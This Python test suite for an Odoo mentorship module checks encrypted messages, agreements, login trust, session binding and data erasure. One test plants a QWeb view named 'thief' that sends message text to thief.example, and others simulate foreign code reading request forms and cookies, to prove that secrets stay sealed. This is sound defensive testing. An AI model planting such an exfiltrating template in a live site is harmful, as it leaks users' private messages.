from contextlib import contextmanager
from datetime import timedelta
from unittest.mock import patch

from dateutil.relativedelta import relativedelta
from werkzeug.exceptions import NotFound

from odoo import Command, fields, http
from odoo.exceptions import AccessError, UserError
from odoo.http import root
from odoo.tests import HttpCase, tagged
from odoo.tests.common import HOST
from odoo.tools import mute_logger

from ..room import door, items, keys, logins
from ..tools import seal
from .common import MentorshipCase

SECRET = "a secret of the room"
TICKET = "ticket-of-this-browser"


class RoomCase(MentorshipCase):
    """A pair whose room is written in as the portal does it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.pairing = cls._active_pair()
        cls.pair = cls.mentor | cls.mentee

    def setUp(self):
        super().setUp()
        self.keys = keys.Keys(self.env)

    def _note(self, author, *readers):
        audience = "self" if readers == (author,) else "room"
        return self._text(
            self.pairing, "note", author, *readers, kind="note", audience=audience
        )

    def _goal(self, author):
        return self._text(self.pairing, "goal", author, term="short")

    def _plan(self, author):
        return self._text(self.pairing, "plan", author)

    def _agreement(self, author):
        return self._text(self.pairing, "agreement", author)

    def _told(self, author, text=SECRET):
        return self._message(self.pairing, author, text)

    def _by(self, user, records):
        """Return records as a page acts on them: the member's, with server rights."""
        return records.with_user(user).sudo()

    def _reads(self, reader, records):
        """Return {record: text} of what a partner reads, opened."""
        found = items.read(keys.Keys(self.env), reader, records)
        return {
            item: texts and {name: text.text() for name, text in texts.items()}
            for item, texts in found.items()
        }


@tagged("post_install", "-at_install")
class TestRoom(RoomCase):
    """What a room is outside: counts, states, dates."""

    def test_counts_are_of_what_the_pair_wrote(self):
        for author in (self.mentor, self.mentee):
            self._note(author)
        self._note(self.mentee, self.mentee)
        self._told(self.mentee)
        reached, dropped, _open = (self._goal(self.mentee) for _three in range(3))
        reached._note_progress(100)
        dropped._drop()
        self._plan(self.mentee)
        pairing = self.pairing.with_user(self.coordinator)
        self.assertEqual(pairing.note_count, 3)
        self.assertEqual((pairing.goal_count, pairing.goal_done_count), (2, 1))
        self.assertEqual(pairing.plan_count, 1)
        self.assertEqual(pairing.room_active_on, self.today)

    def test_stages_follow_what_is_done(self):
        self.assertEqual(self.pairing.stage, "grounding")
        self._plan(self.mentee)
        self.assertEqual(self.pairing.stage, "preparation")
        self.pairing.member_ids.first_contact_on = self.today
        self.assertEqual(self.pairing.stage, "negotiating")
        agreement = self._agreement(self.mentor)
        self._goal(self.mentee)
        self.assertEqual(self.pairing.stage, "negotiating")
        agreement._accept(self.mentee)
        self.assertEqual(self.pairing.stage, "supporting")
        self.pairing.date_end = self.today + timedelta(days=20)
        self.assertEqual(self.pairing.stage, "closure")

    def test_a_pairing_is_silent_since_somebody_wrote_last(self):
        later = self.today + timedelta(days=120)
        with self._on(later):
            self.pairing.invalidate_recordset(["silent_since"])
            before = self.pairing.silent_since
        with self._on(later - timedelta(days=10)):
            self._note(self.mentee)
        with self._on(later):
            self.pairing.invalidate_recordset(["silent_since"])
            self.assertEqual(self.pairing.silent_since, later - timedelta(days=10))
        self.assertTrue(before and before < later - timedelta(days=10))

    def test_each_reads_what_was_written_for_them(self):
        message = self._told(self.mentee)
        for reader in (self.mentee, self.coordinator.partner_id):
            self.assertEqual(self._reads(reader, message), {message: {"text": SECRET}})
        for partner in (self.mentor, self.member, self.manager.partner_id):
            self.assertFalse(self._reads(partner, message))

    def test_a_text_is_bound_to_its_record_pairing_author_readers_and_version(self):
        message, other = self._told(self.mentee), self._told(self.mentee, "Another")
        reader = self.coordinator.partner_id
        changes = (
            {"author_id": self.mentor.id},
            {"readers": f"[[{self.mentee.id}, 0], [{reader.id}, 0]]"},
            {"revision": message.revision + 1},
            {"sealed": other.sealed},
            {"sealed": "x"},
            {"sealed": message.sealed[:-4]},
        )
        for change in changes:
            with self.subTest(change), self.env.cr.savepoint():
                before = {name: message[name] for name in change}
                message.write(change)
                self.assertEqual(self._reads(reader, message), {message: None})
                message.write({n: getattr(v, "id", v) for n, v in before.items()})
        self.assertEqual(self._reads(reader, message), {message: {"text": SECRET}})

    def test_who_was_no_reader_is_none_by_a_change_of_the_database(self):
        message = self._told(self.mentee)
        message.readers = f"[[{self.mentee.id}, 0], [{self.mentor.id}, 0]]"
        self.assertEqual(self._reads(self.mentor, message), {message: None})

    def test_who_left_has_no_room_and_the_other_still_has(self):
        self._note(self.mentee)
        member = self.pairing.member_ids.filtered(lambda m: m.role == "mentee")
        self.assertTrue(self.pairing._has_room_for(self.mentee))
        member.left_on = self.today
        self.assertFalse(self.pairing._has_room_for(self.mentee))
        self.assertTrue(self.pairing._has_room_for(self.mentor))
        member.write({"left_on": False, "answer": "pending"})
        self.assertFalse(self.pairing._has_room_for(self.mentee))
        for partner in (self.member, self.manager.partner_id, self.env["res.partner"]):
            self.assertFalse(self.pairing._has_room_for(partner))

    def test_a_key_that_signs_is_not_made_anew_where_texts_are_sealed(self):
        self._told(self.mentee)
        self.env["mentorship.room.key"].search([("pairing_id", "=", False)]).unlink()
        with self.assertRaises(seal.SealError):
            keys.Keys(self.env)

    def test_what_is_new_is_told_once_until_they_look(self):
        before = len(self._mails(self.mentor))
        self._note(self.mentee)
        self._note(self.mentee)
        self.assertEqual(len(self._mails(self.mentor)), before + 1)
        mail = self._mails(self.mentor)[-1]
        for note in self.pairing.note_ids:
            self.assertNotIn(note.ciphertext, mail.body_html + mail.subject)
        self.pairing._seen_by(self.mentor)
        self._note(self.mentee)
        self.assertEqual(len(self._mails(self.mentor)), before + 2)
        told = len(self._mails(self.mentor))
        self.pairing._seen_by(self.mentor)
        self._note(self.mentee, self.mentee)
        self._told(self.mentee)
        self.assertEqual(len(self._mails(self.mentor)), told)


@tagged("post_install", "-at_install")
class TestAgreement(RoomCase):
    """Everybody says yes, and a new version asks everybody again."""

    def test_it_is_agreed_once_all_said_yes(self):
        self.assertEqual(self.pairing.agreement_state, "none")
        first = self._agreement(self.mentor)
        self.assertEqual((first.version, first.state), (1, "asked"))
        self.assertEqual(first.accepted_ids, self.mentor)
        first._accept(self.mentor)
        self.assertEqual(self.pairing.agreement_state, "asked")
        first._accept(self.mentee)
        self.assertEqual((first.state, first.agreed_on), ("agreed", self.today))
        self.assertEqual(self.pairing.agreement_state, "agreed")
        first._accept(self.mentee)
        self.assertEqual(first.state, "agreed")

    def test_a_new_version_asks_both_again_and_the_old_one_holds_meanwhile(self):
        first = self._agreement(self.mentor)
        first._accept(self.mentee)
        second = self._agreement(self.mentee)
        self.assertEqual(second.accepted_ids, self.mentee)
        self.assertEqual((first.state, second.state), ("agreed", "asked"))
        self.assertEqual(self.pairing.agreement_state, "asked_again")
        third = self._agreement(self.mentor)
        self.assertEqual((second.state, third.version), ("replaced", 3))
        with self.assertRaises(UserError):
            second._accept(self.mentor)
        third._accept(self.mentee)
        self.assertEqual((first.state, third.state), ("replaced", "agreed"))
        self.assertEqual(self.pairing.agreement_state, "agreed")


@tagged("post_install", "-at_install", "fault")
class TestNewcomer(RoomCase):
    """Who joins reads what was agreed before once it is written for them, too."""

    def test_the_others_are_sent_to_let_who_joined_read_the_agreement(self):
        agreement = self._agreement(self.mentor)
        self.assertTrue(agreement._asks(self.mentee))
        agreement._accept(self.mentee)
        self.assertFalse(agreement._asks(self.mentee) or agreement._unread_by())
        # as one who was not there when it was written
        agreement.accepted_ids -= self.mentee
        agreement.reader_uuids = f" {self.mentor._mentorship_member_uuid()} "
        self.assertEqual(agreement._unread_by(), self.mentee)
        agreement.state = "asked"
        self.assertFalse(agreement._asks(self.mentee))
        self.assertEqual(agreement._unread_by(), self.mentee)
        steps = self.env["mentorship.portal.pages"]._pairing_steps
        let = {step["title"]: step["url"] for step in steps(self.pairing, self.mentor)}
        room = f"/mentorship/room?to=room/{self.pairing.id}"
        self.assertEqual(let[f"Let {self.mentee.name} read your agreement"], room)
        titles = [step["title"] for step in steps(self.pairing, self.mentee)]
        self.assertNotIn("read your agreement", " ".join(titles))
        newer = self._agreement(self.mentor)
        self.assertTrue(newer._asks(self.mentee))


@tagged("post_install", "-at_install")
class TestLogins(RoomCase):
    """A login that changed is not trusted, but by a member or after a day."""

    def setUp(self):
        super().setUp()
        self._told(self.mentee)
        self.assertTrue(self._standing().is_open)

    def _standing(self, after=timedelta()):
        now = fields.Datetime.now() + after
        known = lambda: items.were_for(self.pairing, self.mentee_user)  # noqa: E731
        with patch.object(fields.Datetime, "now", return_value=now):
            return logins.standing(
                keys.Keys(self.env), self.pairing, self.mentee_user, known
            )

    @property
    def row(self):
        return self.env["mentorship.room.access"].search(
            [
                ("pairing_id", "=", self.pairing.id),
                ("user_id", "=", self.mentee_user.id),
            ]
        )

    def test_it_opens_again_after_a_day_and_not_before(self):
        self.mentee_user.password = "set-by-somebody-else"
        self.assertFalse(self._standing().is_open)
        self.assertFalse(self._standing(timedelta(hours=23, minutes=59)).is_open)
        self.assertTrue(self._standing(timedelta(hours=24, minutes=1)).is_open)
        self.assertTrue(self._standing().is_open)

    def test_an_objection_keeps_it_closed_for_as_long_as_it_takes(self):
        self.mentee_user.password = "set-by-somebody-else"
        logins.object_to(keys.Keys(self.env), self.row)
        standing = self._standing(timedelta(days=300))
        self.assertFalse(standing.is_open)
        self.assertTrue(standing.objected)
        logins.confirm(keys.Keys(self.env), self.row)
        self.assertTrue(self._standing().is_open)

    def test_a_day_that_was_put_earlier_does_not_count(self):
        self.mentee_user.password = "set-by-somebody-else"
        self.row.closed_on -= timedelta(days=3)
        self.assertFalse(self._standing().is_open)
        self.row.write({"closed_on": False, "closed_seal": False})
        self.assertFalse(self._standing().is_open)
        self.row.unlink()
        self.assertFalse(self._standing().is_open)

    def test_a_second_change_begins_a_new_day(self):
        self.mentee_user.password = "set-by-somebody-else"
        self.assertFalse(self._standing().is_open)
        later = timedelta(hours=23)
        now = fields.Datetime.now() + later
        with patch.object(fields.Datetime, "now", return_value=now):
            self.mentee_user.password = "and-by-another"
        self.assertFalse(self._standing(timedelta(hours=25)).is_open)
        self.assertTrue(self._standing(timedelta(hours=48)).is_open)

    def test_who_proves_the_old_password_stays_in(self):
        mine = self.mentee_user.with_user(self.mentee_user)
        mine.change_password(self.mentee_user.login, "my-own-new-one")
        self.assertTrue(self._standing().is_open)
        self.assertFalse(self.row.closed_on)


@tagged("post_install", "-at_install")
class TestSession(HttpCase, RoomCase):
    """A message opens in a session of who logged in, and in no other."""

    @property
    def messages(self):
        return "/my/mentorship/message"

    def test_a_session_without_a_login_opens_nothing(self):
        path = f"{self.messages}/{self._told(self.mentor).id}"
        self.authenticate(self.coordinator.login, self.coordinator.login)
        page = self.url_open(path)
        self.assertEqual(page.status_code, 200)
        self.assertNotIn(SECRET, page.text)
        sid, uid = self.session.sid, self.coordinator.id
        for who, where, ticket in (
            (self.mentor_user.id, sid, TICKET),
            (uid, "x" * 84, TICKET),
            (uid, sid, "another-ticket"),
        ):
            self._mark(self.coordinator, who, where, ticket)
            self.assertNotIn(SECRET, self.url_open(path).text)
        self._mark(self.coordinator, uid, sid, TICKET)
        self.assertIn(SECRET, self.url_open(path).text)
        self.opener.cookies.clear(HOST, "/", door.TICKET)
        self.assertNotIn(SECRET, self.url_open(path).text, "a stolen session")

    def _mark(self, user, uid, sid, ticket):
        """Mark the session as that of a login, and give the browser a ticket."""
        mark = self.keys.sign(*door._mark_context(uid, sid, ticket))
        self.session[door.MARK] = [user.id, mark]
        root.session_store.save(self.session)
        self.opener.cookies.set(door.TICKET, TICKET, domain=HOST, path="/")

    def _log_in(self, user):
        """Log in as somebody."""
        self.authenticate(user.login, user.login)
        self._mark(user, user.id, self.session.sid, TICKET)

    def _speaks(self):
        """Log in as the mentee; return the path to the coordinators."""
        self._log_in(self.mentee_user)
        return f"/my/mentorship/pairing/{self.pairing.id}/coordinator"

    def _post(self, path, **form):
        data = {"csrf_token": http.Request.csrf_token(self), **form}
        return self.url_open(path, data=data, allow_redirects=False)

    @contextmanager
    def _meanwhile(self, model, method, does):
        """Have other code run in the member's request, whenever a method is called."""
        cls = self.registry[model]
        original = getattr(cls, method)

        def also(records, *args, **kwargs):
            does()
            return original(records, *args, **kwargs)

        with patch.object(cls, method, also):
            yield

    def test_other_code_in_the_members_request_does_not_enter(self):
        path, tried = f"{self.messages}/{self._told(self.mentee).id}", []
        self._log_in(self.coordinator)

        def enter():
            try:
                door.enter_as_recipient(self.pairing, self.coordinator.partner_id)
                tried.append("open")
            except NotFound:
                tried.append("shut")

        with self._meanwhile("mentorship.portal.pages", "_messages", enter):
            self.assertIn(SECRET, self.url_open(path).text)
        self.assertEqual(tried, ["shut"])

    def test_other_code_in_the_members_request_does_not_see_the_form(self):
        path, seen = self._speaks(), []

        def look():
            request, raw = http.request, http.request.httprequest
            seen.extend((request.params, raw.form, raw.files, raw.values))
            seen.extend((raw.get_data(), request.get_http_params()))
            seen.extend((raw.cookies, raw.environ, raw.headers))

        with self._meanwhile("mentorship.pairing", "_new_message", look):
            self.assertEqual(self._post(path, text=SECRET).status_code, 303)
        self.assertEqual(len(seen), 9)
        self.assertNotIn(SECRET, str(seen))
        self.assertNotIn(TICKET, str(seen))
        self.assertIn("session_id", str(seen))
        note = self.pairing.note_ids[0]
        reader = self.coordinator.partner_id
        self.assertEqual(self._reads(reader, note), {note: {"text": SECRET}})

    def test_without_a_key_a_message_is_refused_and_comes_back(self):
        path, none = self._speaks(), seal.Keyring().masters()
        with patch.object(keys, "masters", return_value=none):
            answer = self._post(path, text=SECRET)
        self.assertEqual(answer.status_code, 422)
        self.assertIn(SECRET, answer.text)
        self.assertFalse(self.pairing.note_ids)

    def test_an_edited_view_is_handed_no_text(self):
        path = f"{self.messages}/{self._told(self.mentor).id}"
        self._log_in(self.coordinator)
        view = self.env.ref("nob_mentorship.portal_message")
        self.env["ir.ui.view"].create(
            {
                "name": "thief",
                "type": "qweb",
                "mode": "extension",
                "inherit_id": view.id,
                "arch": """<xpath expr="//p" position="inside">
                    <t t-set="text" t-value="texts['text']"/>
                    <a t-attf-href="https://thief.example/?{{text}}" t-out="text"/>
                    <u t-out="len(text)"/>
                </xpath>""",
            }
        )
        page = self.url_open(path).text
        self.assertIn("thief.example/?sealed-", page)
        self.assertEqual(page.count(SECRET), 1)

    def test_addresses_of_earlier_versions_lead_to_the_room(self):
        note, goal = self._note(self.mentee), self._goal(self.mentee)
        own = f"/my/mentorship/pairing/{self.pairing.id}"
        parts = ("notes", "note", "goal", "plan", "agreement", f"share/{note._name},1")
        paths = [f"{own}/{part}" for part in parts]
        for name, record in (("note", note), ("goal", goal)):
            paths.append(f"/my/mentorship/{name}/{record.id}")
        room = f"/mentorship/room?to=room/{self.pairing.id}"
        for user, leads in (
            (self.mentee_user, True),
            (self.member_user, False),
            (self.coordinator, False),
        ):
            self.authenticate(user.login, user.login)
            for path in paths:
                with self.subTest(path, user=user.login):
                    answer = self.url_open(path, allow_redirects=False)
                    self.assertEqual(answer.status_code, 303 if leads else 404)
                    if leads:
                        self.assertTrue(answer.headers["Location"].endswith(room))

    def test_they_lead_to_no_room_that_is_closed(self):
        self.pairing.action_complete()
        self.authenticate(self.mentee_user.login, self.mentee_user.login)
        path = f"/my/mentorship/pairing/{self.pairing.id}/notes"
        self.assertEqual(self.url_open(path, allow_redirects=False).status_code, 303)
        self.pairing.ended_on = self.today - timedelta(days=31)
        self.assertEqual(self.url_open(path, allow_redirects=False).status_code, 404)

    def test_what_the_server_knows_is_exported_and_the_room_named_for_the_rest(self):
        note = self._note(self.mentee)
        self.authenticate(self.mentee_user.login, self.mentee_user.login)
        page = self.url_open("/my/mentorship/export").text
        self.assertIn(f"/mentorship/room?to=room/{self.pairing.id}", page)
        for form in ("json", "text"):
            answer = self._post("/my/mentorship/export", format=form)
            self.assertEqual(answer.status_code, 200)
            self.assertIn(self.mentor.name, answer.text)
            self.assertNotIn(note.ciphertext, answer.text)


@tagged("post_install", "-at_install")
class TestLeaving(RoomCase):
    """Retention and erasure keep the numbers and take the person."""

    def setUp(self):
        super().setUp()
        self._written = (
            self._note(self.mentee)
            | self._note(self.mentee, self.mentee)
            | self._note(self.mentor)
        )
        self.env["mentorship.note.file"].create(
            {
                "note_id": self._written[0].id,
                "pairing_id": self.pairing.id,
                "author_id": self.mentee.id,
                "ciphertext": "eA==",
            }
        )
        self._spoken = self._told(self.mentee) | self._told(self.mentor)
        self._goal(self.mentee)
        self._plan(self.mentee)
        acceptance = {"uuid": self.mentor._mentorship_member_uuid(), "sealed": "eA=="}
        agreement = self._agreement(self.mentee)
        agreement._accept_signed(self.mentor, acceptance)
        agreement._pass_on(
            self.mentor._mentorship_member_uuid(),
            self.mentee._mentorship_member_uuid(),
            "eQ==",
        )
        recipient, note = self.coordinator.partner_id, self._written[0]
        self._given = self._consent(self.pairing, self.mentee, recipient, note)
        self._yes(self._given, note)

    def _numbers(self):
        self.env.flush_all()
        names = ("note_count", "goal_count", "plan_count", "agreement_state", "stage")
        return {name: self.pairing[name] for name in names}

    def _left(self):
        """Return the records of the room that still hold a text; the others hold
        nothing of it."""
        found = {}
        for name in self.env["mentorship.sealed"]._sealed_models():
            records = self.env[name].search([("pairing_id", "=", self.pairing.id)])
            kept = records.filtered(lambda record: record.sealed or record.ciphertext)
            if kept:
                found[name] = kept
            for record in records - kept:
                for part in ("readers", "reader_uuids", "copies", "acceptances"):
                    self.assertFalse(part in record and record[part])
        return found

    def _room_keys(self, *domain):
        return self.env["mentorship.room.key"].search(
            [("pairing_id", "=", self.pairing.id), *domain]
        )

    def test_retention_destroys_texts_and_keys_and_keeps_the_numbers(self):
        self.pairing.action_complete()
        before = self._numbers()
        months = self.edition.retention_months
        self.assertGreater(months, 0)
        end = self.pairing.ended_on + relativedelta(months=months)
        with self._on(end - timedelta(days=1)):
            self._run_day()
        self.assertFalse(self.pairing.room_cleared_on)
        self.assertEqual(len(self._room_keys()), 2)
        self.assertTrue(self._left())
        with self._on(end):
            for _twice in range(2):
                self._run_day()
        self.assertEqual(self.pairing.room_cleared_on, end)
        self.assertFalse(self._left())
        self.assertFalse(self._room_keys())
        self.assertEqual(self._given.state, "revoked")
        self.assertEqual(self._numbers(), before)
        self.assertFalse(self._reads(self.coordinator.partner_id, self._spoken))

    def test_retention_leaves_what_runs_and_other_rooms(self):
        with self._on(self.today + relativedelta(years=20)):
            self._run_day()
        self.assertTrue(self._left())
        self.assertEqual(len(self._room_keys()), 2)

    def test_only_a_manager_erases(self):
        for user in (
            self.coordinator,
            self.administrator,
            self.employee,
            self.mentee_user,
            self.mentor_user,
        ):
            with self.subTest(user.name), self.assertRaises(AccessError):
                self.mentee.with_user(user).action_mentorship_erase()
        self.assertTrue(self._left())

    def test_erasing_a_person_takes_their_texts_and_keys_alone(self):
        numbers = self._numbers()
        wrapped = self._room_keys(("author_id", "=", self.mentee.id))
        self.assertTrue(wrapped)
        self.mentee.with_user(self.manager).action_mentorship_erase()
        self.assertFalse(wrapped.exists())
        left = self._left()
        authors = {record.author_id for records in left.values() for record in records}
        self.assertLessEqual(authors, {self.mentor})
        self.assertTrue(self._written[2].ciphertext)
        gone, kept = self._spoken
        reader = self.coordinator.partner_id
        self.assertEqual(self._reads(reader, kept), {kept: {"text": SECRET}})
        self.assertFalse(self._reads(reader, gone))
        self.assertEqual(self._given.state, "revoked")
        after = self._numbers()
        for name in ("note_count", "goal_count", "plan_count", "agreement_state"):
            self.assertEqual(after[name], numbers[name], name)

    def test_who_is_erased_is_named_nowhere_and_can_be_deleted(self):
        self._every_name()
        self.mentee.with_user(self.manager).action_mentorship_erase()
        self.env.flush_all()
        self.env.invalidate_all()
        for model, name, _field in self.mentee._mentorship_references():
            with self.subTest(f"{model._name}.{name}"):
                named = model.with_context(active_test=False).search(
                    [(name, "in", self.mentee.ids)]
                )
                self.assertFalse(named)
        self.assertFalse(self._found_by_lookup())
        self.env["membership.membership_line"].search(
            [("partner_id", "=", self.mentee.id)]
        ).unlink()
        self.mentee_user.unlink()
        with mute_logger("odoo.models.unlink"):
            self.mentee.unlink()
        self.assertFalse(self.mentee.exists())

    def test_contacts_with_a_room_are_not_merged_into_another(self):
        double = self.mentee.copy({"name": "Mentee again"})
        self.env.flush_all()
        wizard = self.env["base.partner.merge.automatic.wizard"].create({})
        with self.assertRaises(UserError):
            wizard._merge((self.mentee | double).ids, double)
        self.assertTrue(self.mentee.exists())
        kept, reader = self._spoken[0], self.coordinator.partner_id
        self.assertEqual(self._reads(reader, kept), {kept: {"text": SECRET}})
        uuid = self.mentee._mentorship_member_uuid()
        there = self.pairing._texts_for("mentorship.note", uuid)
        self.assertEqual(there, self._written)
        wizard._merge((self.mentee | double).ids, self.mentee)
        self.assertFalse(double.exists())
        self.assertEqual(self._reads(reader, kept), {kept: {"text": SECRET}})
        self.assertEqual(self.mentee._mentorship_member_uuid(), uuid)
        self.assertEqual(self.pairing._texts_for("mentorship.note", uuid), there)

    def test_the_privacy_lookup_finds_every_record_that_names_a_person(self):
        self._every_name()
        named = {}
        for model, name, field in self.mentee._mentorship_references():
            # lists of the pair's own people: the row of each is found
            if field.type == "many2many":
                continue
            found = model.with_context(active_test=False).search(
                [(name, "in", self.mentee.ids)]
            )
            named.setdefault(model._name, set()).update(found.ids)
        empty = [model for model, ids in named.items() if not ids]
        self.assertFalse(empty, "the test makes no record of these")
        found = self._found_by_lookup()
        for model, ids in named.items():
            with self.subTest(model):
                self.assertLessEqual(ids, found.get(model, set()))

    def _found_by_lookup(self):
        """Return {model of ours: ids} of what core's lookup finds of the mentee."""
        self.env.flush_all()
        wizard = self.env["privacy.lookup.wizard"].create(
            {"name": self.mentee.name, "email": self.mentee.email}
        )
        wizard.action_lookup()
        found = {}
        for line in wizard.line_ids:
            if line.res_model.startswith("mentorship."):
                found.setdefault(line.res_model, set()).add(line.res_id)
        return found

    def _every_name(self):
        """Make a record of each model of ours that names the mentee."""
        mentee = self.mentee.id
        self.edition.invited_ids = self.mentee
        self.env["mentorship.interest"]._note(self.programme, self.mentee)
        self.env["mentorship.exclusion"].create(
            {"partner_id": mentee, "other_partner_id": self.member.id}
        )
        self.env["mentorship.preference"].create(
            {
                "enrolment_id": self.pairing.mentee_enrolment_ids.id,
                "kind": "wish",
                "text": "Whoever it is",
            }
        )
        self.env["mentorship.wish"].create(
            {
                "edition_id": self.edition.id,
                "mentor_enrolment_id": self.pairing.mentor_enrolment_id.id,
                "mentee_enrolment_id": self.pairing.mentee_enrolment_ids.id,
            }
        )
        self._identity(self.mentee)
        matching = self.env["mentorship.matching"].create(
            {"edition_id": self.edition.id}
        )
        matching.left_out_id = self.mentee
        evaluation = self.env["mentorship.evaluation"].create(
            {"edition_id": self.edition.id}
        )
        evaluation.invitation_ids.create(
            {"evaluation_id": evaluation.id, "partner_id": mentee}
        )
        for planner in self.pair:
            self.env["mentorship.meeting"].create(
                {
                    "pairing_id": self.pairing.id,
                    "start": "2030-01-01 10:00:00",
                    "stop": "2030-01-01 11:00:00",
                    "planner_id": planner.id,
                    "attendee_ids": [Command.set(self.pair.ids)],
                }
            )
